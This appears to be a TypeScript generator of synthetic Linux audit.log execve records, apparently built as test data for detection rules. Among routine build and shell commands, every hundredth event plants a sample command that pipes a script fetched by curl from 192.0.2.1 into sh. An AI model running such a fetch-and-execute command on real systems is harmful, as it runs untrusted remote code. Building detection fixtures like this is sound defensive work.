// An audit.log of any length: the records of one captured process start (Linux 6.18, x86_64, auditd 3.0.9, a dynamically linked program
// run by a shell), over and over with new serials, times, processes, programs and arguments.

interface Program {
  readonly executable: string;
  readonly inode: number;
  /** `#` becomes a number that is new in every event. */
  readonly args: readonly string[];
}

/** What a build server runs, and a shell session. */
const PROGRAMS: readonly Program[] = [
  { executable: '/usr/bin/grep', inode: 247260, args: ['grep', '--color=auto', 'mapping-#', '/etc/hosts'] },
  {
    executable: '/usr/bin/gcc-12',
    inode: 247901,
    args: ['gcc', '-Wall', '-O2', '-Iinclude', '-DNDEBUG', '-c', 'src/module_#.c', '-o', 'build/module_#.o'],
  },
  {
    executable: '/usr/bin/dash',
    inode: 246102,
    args: ['sh', '-c', 'test -f /etc/default/locale && . /etc/default/locale'],
  },
  {
    executable: '/usr/bin/git',
    inode: 248233,
    args: ['git', '-C', '/srv/repos/project-#', 'rev-parse', '--verify', 'HEAD^{commit}'],
  },
  { executable: '/usr/bin/ls', inode: 246177, args: ['ls', '--color=auto', '-la', '/var/lib/containers/overlay/#'] },
  { executable: '/usr/bin/sed', inode: 246230, args: ['sed', '-e', 's/@VERSION@/1.#/g', 'config.h.in'] },
  { executable: '/usr/sbin/sshd', inode: 249001, args: ['/usr/sbin/sshd', '-D', '-R', '#'] },
];
/** What rules look for; one event of so many. */
const SUSPICIOUS: Program = {
  executable: '/usr/bin/dash',
  inode: 246102,
  args: ['sh', '-c', 'curl -s http://192.0.2.1/#.sh | sh'],
};
const SUSPICIOUS_EVERY = 100;
const EVENTS_A_SECOND = 1_000;
const START_SECONDS = 1_795_493_335;
const FIRST_PID = 300;
const PID_MAX = 32_768;
/** Parents are this many events old at most. */
const FAMILY = 50;

function hex(text: string): string {
  return Buffer.from(text, 'latin1').toString('hex').toUpperCase();
}

/** A value as the kernel writes it: quoted, or in hex where it holds a space, a quote or a control character. */
function encoded(text: string): string {
  return /^[\x21\x23-\x7e]*$/.test(text) ? `"${text}"` : hex(text);
}

function pidOf(event: number): number {
  return FIRST_PID + (event % (PID_MAX - FIRST_PID));
}

/** The lines of event number `i`, from 0. */
export function execLines(i: number): string {
  const program = i % SUSPICIOUS_EVERY === 0 ? SUSPICIOUS : PROGRAMS[i % PROGRAMS.length]!;
  const args = program.args.map(arg => arg.replaceAll('#', String(i)));
  const ms = Math.floor((i * 1000) / EVENTS_A_SECOND);
  const stamp = `${START_SECONDS + Math.floor(ms / 1000)}.${String(ms % 1000).padStart(3, '0')}:${1000 + i}`;
  const parent = pidOf(Math.max(0, i - 1 - (i % FAMILY)));
  const uid = i % 3 === 0 ? 0 : 1000;
  const { executable, inode } = program;
  const comm = executable.slice(executable.lastIndexOf('/') + 1);
  const head = (type: string): string => `type=${type} msg=audit(${stamp}): `;
  const file =
    'dev=fe:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0';
  return `${head('SYSCALL')}arch=c000003e syscall=59 success=yes exit=0 a0=5588d8c32e78 a1=5588d8c32ba0 a2=5588d8c32d58 a3=8 items=2 ppid=${parent} pid=${pidOf(i)} auid=1000 uid=${uid} gid=${uid} euid=${uid} suid=${uid} fsuid=${uid} egid=${uid} sgid=${uid} fsgid=${uid} tty=pts0 ses=3 comm="${comm}" exe="${executable}" key="puppy-exec"
${head('BPRM_FCAPS')}fver=0 fp=0 fi=0 fe=0 old_pp=000001fffeffffff old_pi=0 old_pe=000001fffeffffff old_pa=0 pp=000001fffeffffff pi=0 pe=000001fffeffffff pa=0 frootid=0
${head('EXECVE')}argc=${args.length} ${args.map((arg, n) => `a${n}=${encoded(arg)}`).join(' ')}
${head('CWD')}cwd="/srv/builds/${i % 50}"
${head('PATH')}item=0 name="${executable}" inode=${inode} ${file}
${head('PATH')}item=1 name="/lib64/ld-linux-x86-64.so.2" inode=325835 ${file}
${head('PROCTITLE')}proctitle=${hex(args.join('\0'))}
${head('EOE')}
`;
}

/** Events `from` to `to` in pieces of about a megabyte. */
export function* execLog(from: number, to: number): Generator<Buffer> {
  const pieceEvents = 1_000;
  for (let i = from; i < to; i += pieceEvents) {
    const lines: string[] = [];
    for (let n = i; n < Math.min(to, i + pieceEvents); n++) lines.push(execLines(n));
    yield Buffer.from(lines.join(''), 'latin1');
  }
}
